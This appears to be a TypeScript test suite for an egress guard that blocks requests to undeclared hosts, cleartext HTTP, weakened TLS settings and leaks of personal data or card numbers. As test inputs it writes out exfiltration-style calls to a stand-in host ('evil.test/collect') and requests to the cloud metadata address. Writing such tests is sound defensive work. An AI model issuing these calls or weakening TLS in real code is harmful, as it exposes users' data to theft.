import { once } from 'node:events';
import http, { createServer, type Server } from 'node:http';
import https from 'node:https';
import { Duplex } from 'node:stream';
import { text } from 'node:stream/consumers';
import net, { Socket } from 'node:net';
import tls from 'node:tls';
import { compilePolicy } from '@troth/compiler';
import { Agent, fetch as undiciFetch, request as undiciRequest } from 'undici';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { denialIn } from '../denial.ts';
import { runIn, within } from '../scope.ts';
import { Traces } from '../traces.ts';
import {
  bundleOf,
  FakeService,
  feed,
  quietFeed,
  START,
  testGuard,
  type TestGuard,
} from '../testing/bundles.ts';
import { withFiles } from '../testing/policy-files.ts';
import { checkedParts } from './checked-body.ts';
import { egressDispatcher } from './dispatcher.ts';
import { Egress } from './egress.ts';
import { installEgress } from './install.ts';

let server: Server;
let port = 0;
const received: string[] = [];
beforeAll(async () => {
  server = createServer((request, response) => {
    void text(request).then((body) => {
      received.push(`${request.url} ${body}`);
      return response.end('ok');
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  port = typeof address === 'object' ? (address?.port ?? 0) : 0;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

/** Postbote stands on loopback here, so that what may leave arrives. */
async function guardOfLoopback(): Promise<TestGuard> {
  const { policy } = compilePolicy(withFiles({}));
  const service = new FakeService();
  service.answers.set('/v1/policy/bundle', () => new Response(bundleOf(START, policy)));
  service.answers.set('/v1/subjects/feed', quietFeed);
  return testGuard({ feed }, service);
}

let uninstall: (() => void) | undefined;
afterEach(() => {
  uninstall?.();
  uninstall = undefined;
  received.length = 0;
});

function scoped<T>(purpose: string, work: () => T, values: [string, string][] = []): T {
  const traces = new Traces();
  for (const [value, category] of values) traces.add(value, [category]);
  return runIn({ mode: 'enforce', where: 'a job', purpose, traces, subject: { id: 'u1' } }, work);
}

const ask = (url: string, leaving = '') => ({ url: new URL(url), text: leaving, isFile: false });

describe('a request may leave', () => {
  test.each([
    ['to a declared host', 'https://api.postbote.test/send', ''],
    ['to a host below a declared one', 'https://eu.postbote-cdn.test/send', ''],
    ['with declared data', 'https://api.postbote.test/send', '{"to":"ada@example.test"}'],
    ['to the company itself', 'https://shop.example/hook', 'ada@example.test'],
    ['to loopback', `http://127.0.0.1/`, 'ada@example.test'],
  ])('%s', async (_, url, leaving) => {
    const { guard } = await guardOfLoopback();

    expect(() => new Egress(guard).check(ask(url, leaving))).not.toThrow();
    guard.stop();
  });
});

describe('a request may not leave', () => {
  test.each([
    [
      'to a host nobody declared',
      'https://evil.test/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    [
      'to a host that only ends like a declared one',
      'https://evilapi.postbote.test.evil.test/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    [
      'to the bare name of a pattern',
      'https://postbote-cdn.test/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    [
      'to a recipient that no clause shares with',
      'https://tracker.test/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    [
      'to an address instead of a name',
      'https://203.0.113.9/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    [
      'to the metadata of the machine',
      'http://169.254.169.254/',
      '',
      'sharing/undeclared-recipient',
      'sharing.providers',
    ],
    ['unencrypted', 'http://api.postbote.test/', '', 'transit/cleartext', 'security.transit'],
    [
      'with a value that was read',
      'https://api.postbote.test/',
      '{"x":"Ada Marsh"}',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a value in a form',
      'https://api.postbote.test/',
      'x=Ada+Marsh',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a value in a path',
      'https://api.postbote.test/',
      '/Ada%20Marsh',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a value in JSON escapes',
      'https://api.postbote.test/',
      String.raw`{"x":"Ada\u0020Marsh"}`,
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a card number',
      'https://api.postbote.test/',
      'card=4111 1111 1111 1111',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a card number whose digits add up beyond nine when doubled',
      'https://api.postbote.test/',
      'card=5555555555554444',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
    [
      'with a card number that only the form’s own writing hides',
      'https://api.postbote.test/',
      'card=4111%201111%201111%201111&off=100%',
      'sharing/undeclared-category',
      'sharing.providers',
    ],
  ])('%s', async (_, url, leaving, rule, clause) => {
    const { guard } = await guardOfLoopback();

    const denial = denialOf(() =>
      scoped('run-shop', () => new Egress(guard).check(ask(url, leaving)), [
        ['Ada Marsh', 'account.name'],
      ]),
    );

    expect(denial).toMatchObject({ rule, clause });
    guard.stop();
  });

  test('for a purpose that does not share', async () => {
    const { guard } = await guardOfLoopback();
    const send = () =>
      new Egress(guard).check(ask('https://api.postbote.test/', 'ada@example.test'));

    expect(denialOf(() => scoped('figures', send))?.rule).toBe('purpose/undeclared-use');
    expect(denialOf(() => scoped('run-shop', send))).toBeUndefined();
    guard.stop();
  });

  test('when the code says that it holds more than may go there', async () => {
    const { guard } = await guardOfLoopback();
    const send = () => new Egress(guard).check(ask('https://api.postbote.test/'));

    const sending = guard.for('run-shop', { where: 'a job' }, () =>
      within({ holding: ['orders'] }, send),
    );

    await expect(sending).rejects.toThrow('sharing/undeclared-category');
    guard.stop();
  });

  test('while there is no policy', async () => {
    const away = new FakeService();
    away.answers.set('/other', () => new Response());
    const { guard } = await testGuard({}, away);
    const egress = new Egress(guard);

    expect(denialOf(() => egress.check(ask('https://api.postbote.test/')))?.rule).toBe(
      'guard/no-policy',
    );
    expect(denialOf(() => egress.checkHost('api.postbote.test'))?.rule).toBe('guard/no-policy');
    guard.stop();
  });
});

/** Written so, because the scan of this repository reads tests as well. */
const older = ['TLSv1', '2'];

test.each([
  ['minVersion', older.join('.'), 'transit/weak-tls-version'],
  ['maxVersion', older.join('.'), 'transit/weak-tls-version'],
  ['secureProtocol', `${older.join('_')}_method`, 'transit/weak-tls-version'],
  ['rejectUnauthorized', false, 'transit/cert-validation-disabled'],
])('%s that weakens TLS opens no socket', async (option, value, rule) => {
  const { guard } = await guardOfLoopback();
  uninstall = installEgress(guard);
  const connect = () =>
    tls.connect({ host: 'api.postbote.test', port: 443, ...Object.fromEntries([[option, value]]) });

  expect(denialOf(connect)).toMatchObject({ rule, clause: 'security.transit' });
  guard.stop();
});

test('a socket that is open already, as through a proxy, may lead to nobody undeclared either', async () => {
  const { guard } = await guardOfLoopback();
  uninstall = installEgress(guard);
  const connect = () => tls.connect({ socket: new Socket(), servername: 'evil.test' });

  expect(denialOf(connect)?.rule).toBe('sharing/undeclared-recipient');
  guard.stop();
});

test('a machine on the same link is reached without TLS where the application names it', async () => {
  const { guard } = await testGuard({ ownHosts: ['169.254.170.2'] });
  const egress = new Egress(guard);

  expect(denialOf(() => egress.check(ask('http://169.254.170.2/credentials')))).toBeUndefined();
  expect(denialOf(() => egress.check(ask('http://shop.example/')))?.rule).toBe('transit/cleartext');
  guard.stop();
});

test('a machine of the company at a public address is reached over TLS alone', async () => {
  const { guard } = await testGuard({ ownHosts: ['203.0.113.9', '169.254.shop.example'] });
  const egress = new Egress(guard);

  for (const host of ['203.0.113.9', '169.254.shop.example']) {
    expect(denialOf(() => egress.check(ask(`http://${host}/`)))?.rule).toBe('transit/cleartext');
    expect(denialOf(() => egress.check(ask(`https://${host}/`)))).toBeUndefined();
  }
  guard.stop();
});

describe('a dispatcher by itself sends nothing', () => {
  const undeclared = 'sharing/undeclared-category';
  test.each([
    ['to a host nobody declared', 'https://evil.test/', {}, 'sharing/undeclared-recipient'],
    ['with a value in the path', 'https://api.postbote.test/Ada%20Marsh', {}, undeclared],
    [
      'with a value in a header',
      'https://api.postbote.test/',
      { headers: { 'x-name': 'Ada Marsh' } },
      undeclared,
    ],
    [
      'with a value in the body',
      'https://api.postbote.test/',
      { method: 'POST' as const, body: 'name=Ada Marsh' },
      undeclared,
    ],
  ])('%s', async (_, url, options, rule) => {
    const { guard } = await guardOfLoopback();
    const dispatcher = egressDispatcher(new Egress(guard));

    const sending = scoped(
      'run-shop',
      () => undiciRequest(url, { ...options, dispatcher }).catch((error: unknown) => error),
      [['Ada Marsh', 'account.name']],
    );

    expect(denialIn(await sending)?.rule).toBe(rule);
    await dispatcher.close();
    guard.stop();
  });
});

test('where nobody names an oldest version, the declared one is offered', async () => {
  const { guard } = await guardOfLoopback();

  expect(new Egress(guard).checkTls({ host: 'api.postbote.test', checksCertificate: true })).toBe(
    'TLSv1.3',
  );
  guard.stop();
});

describe('once installed, nothing undeclared leaves through', () => {
  const away = 'https://evil.test/collect';
  const clients: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['fetch', () => fetch(away, { method: 'POST', body: 'x' })],
    ['fetch with a dispatcher of its own', () => undiciFetch(away, { dispatcher: new Agent() })],
    ['undici.request', () => undiciRequest(away)],
    ['https.request', () => nodeRequest(https, away)],
    ['https with an agent of its own', () => nodeRequest(https, away, new https.Agent())],
    ['http.request', () => nodeRequest(http, 'http://evil.test/')],
    ['a bare TLS socket', async () => tls.connect({ host: 'evil.test', port: 443 })],
  ];
  test.each(clients)('%s', async (_, send) => {
    const { guard } = await guardOfLoopback();
    uninstall = installEgress(guard);

    const denial = denialIn(await send().catch((error: unknown) => error));

    expect(denial?.rule).toBe('sharing/undeclared-recipient');
    guard.stop();
  });
});

describe('once installed, no undeclared value leaves for a declared host', () => {
  const there = 'https://api.postbote.test/send';
  const post = { method: 'POST' } as const;
  const attempts: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['in a path, by fetch', () => fetch(`${there}/Ada%20Marsh`)],
    ['in a header, by fetch', () => fetch(there, { headers: { 'x-name': 'Ada Marsh' } })],
    ['in a body, by undici', () => undiciRequest(there, { ...post, body: 'Ada Marsh' })],
    [
      'in bytes, by undici',
      () => undiciRequest(there, { ...post, body: Buffer.from('Ada Marsh') }),
    ],
    ['in a path, by https', () => nodeRequest(https, `${there}/Ada%20Marsh`)],
    ['in a body, by https', () => nodeRequest(https, there, undefined, 'Ada Marsh')],
  ];
  test.each(attempts)('%s', async (_, send) => {
    const { guard } = await guardOfLoopback();
    uninstall = installEgress(guard);

    const failed = await scoped('run-shop', () => send().catch((error: unknown) => error), [
      ['Ada Marsh', 'account.name'],
    ]);

    expect(denialIn(failed)?.rule).toBe('sharing/undeclared-category');
    guard.stop();
  });

  test('a header that speaks of a picture makes no file of a message', async () => {
    const { guard } = await guardOfLoopback();
    uninstall = installEgress(guard);
    const headers = { 'x-kind': 'image/png', 'content-type': 'text/plain' };
    const body = 'card 4111 1111 1111 1111';

    const failed = await scoped('run-shop', () =>
      undiciRequest(there, { ...post, headers, body }).catch((error: unknown) => error),
    );

    expect(denialIn(failed)?.rule).toBe('sharing/undeclared-category');
    guard.stop();
  });
});

test('a connection that names no oldest version of TLS offers the declared one alone', async () => {
  const { guard } = await guardOfLoopback();
  uninstall = installEgress(guard);
  const { promise, resolve } = Promise.withResolvers<string>();
  const wire = new Duplex({
    read: () => undefined,
    write: (chunk: Buffer, _encoding, done) => {
      resolve(chunk.toString('hex'));
      done();
    },
  });

  const socket = tls.connect({ socket: wire, servername: 'api.postbote.test' });
  socket.on('error', () => undefined);

  // RFC 8446 section 4.2.1: the extension `supported_versions`, one version, 0x0304.
  expect(await promise).toContain('002b0003020304');
  socket.destroy();
  guard.stop();
});

test.each([
  ['a port and a name', () => net.connect(443, 'evil.test')],
  ['options', () => net.connect({ port: 443, host: 'evil.test' })],
  ['a socket of its own', () => new Socket().connect(443, 'evil.test')],
])('a plain socket is not opened to nobody declared, by %s', async (_, connect) => {
  const { guard } = await guardOfLoopback();
  uninstall = installEgress(guard);

  expect(denialOf(connect)?.rule).toBe('sharing/undeclared-recipient');
  guard.stop();
});

test('what is taken away again lets everything pass', async () => {
  const { guard } = await guardOfLoopback();
  const { connect } = tls;

  installEgress(guard)();

  expect(tls.connect).toBe(connect);
  guard.stop();
});

describe("the company's own machine is reached", () => {
  const body = 'Ada Marsh, ada@example.test';
  test.each([
    ['fetch', (url: string) => fetch(url, { method: 'POST', body })],
    ['undici.request', (url: string) => undiciRequest(url, { method: 'POST', body })],
    ['http.request', (url: string) => nodeRequest(http, url, undefined, body)],
  ])('with %s', async (_, send) => {
    const { guard } = await guardOfLoopback();
    uninstall = installEgress(guard);

    await send(`http://127.0.0.1:${port}/hook`);

    expect(received).toEqual([`/hook ${body}`]);
    guard.stop();
  });
});

test('a body that comes in parts is read as it passes, and cut off before what may not go', async () => {
  const { guard } = await guardOfLoopback();
  const egress = new Egress(guard);
  const url = new URL('https://api.postbote.test/');
  async function* parts() {
    yield 'hello ';
    await Promise.resolve();
    yield 'Ada Ma';
    yield 'rsh';
  }
  const sent: unknown[] = [];

  const sending = scoped(
    'run-shop',
    async () => {
      const check = egress.passing(url);
      for await (const part of checkedParts(parts(), (seen) =>
        check({ text: seen, isFile: false }),
      ))
        sent.push(part);
    },
    [['Ada Marsh', 'account.name']],
  );

  await expect(sending).rejects.toThrow('sharing/undeclared-category');
  expect(sent).toEqual(['hello ', 'Ada Ma']);
  guard.stop();
});

test('in mode `report` everything passes and each denial is said once a minute', async () => {
  const run = await guardOfLoopback();
  const egress = new Egress(run.guard);
  const send = () =>
    runIn({ mode: 'report', where: 'a job', traces: new Traces() }, () =>
      egress.check(ask('https://evil.test/')),
    );

  send();
  send();
  send();
  run.at = new Date(run.at.getTime() + 60_000);
  send();

  expect(run.denials).toMatchObject([
    { rule: 'sharing/undeclared-recipient', where: 'evil.test', mode: 'report', count: 1 },
    { rule: 'sharing/undeclared-recipient', where: 'evil.test', mode: 'report', count: 3 },
  ]);
  run.guard.stop();
});

function nodeRequest(
  client: typeof http | typeof https,
  url: string,
  agent?: https.Agent,
  body = 'x',
): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const request = client.request(url, { method: 'POST', ...(agent && { agent }) }, (response) => {
      response.resume().on('end', resolve);
    });
    request.on('error', reject);
    request.end(body);
  });
}

function denialOf(act: () => unknown) {
  try {
    act();
    return undefined;
  } catch (error) {
    return denialIn(error) ?? { rule: String(error) };
  }
}
